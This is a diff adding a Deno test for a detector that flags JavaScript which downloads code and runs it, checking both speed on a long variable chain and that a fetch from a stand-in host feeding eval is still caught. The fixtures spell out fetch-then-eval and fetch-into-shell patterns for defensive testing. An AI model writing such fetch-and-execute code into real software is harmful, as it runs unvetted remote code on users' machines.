@@ -1259,6 +1259,23 @@ Deno.test("downloaded code run through Function's constructor, call or apply, or
   assertRunsOnlyIn(js, "mjs", ways, benign);
 });
 
+Deno.test("a callback whose names each read the one before is read once per name, not once per path", () => {
+  // Each of the 24 names reads the one before twice: read anew at every use, the body is 2^24
+  // readings (a real workflow script of 50 KB took 38 s), read once per name it is 24.
+  let js = "const results = await pipeline(items, async (input) => {\n  const s0 = f(input);\n";
+  for (let i = 1; i < 24; i++) js += `  const s${i} = g(s${i - 1}, s${i - 1}.x);\n`;
+  js += "  eval(s23);\n  return s23;\n});\n";
+  const started = performance.now();
+  assert.deepEqual(downloadRuns("scripts/pipeline.mjs", js), []);
+  assert.ok(performance.now() - started < 2_000, `${performance.now() - started} ms`);
+  // The same chain fed a download still carries it to the end.
+  const fed = js.replace(
+    "f(input)",
+    'f(await (await fetch("https://get.notes-cloud.net/a")).text())',
+  );
+  assert.deepEqual(downloadRuns("scripts/fed.mjs", fed), [26]);
+});
+
 Deno.test("a download given as the input of a shell line that is an interpreter reading stdin is run", () => {
   const js = 'const cp = require("child_process");\n' +
     'const code = await (await fetch("https://get.notes-cloud.net/a")).text();\n';
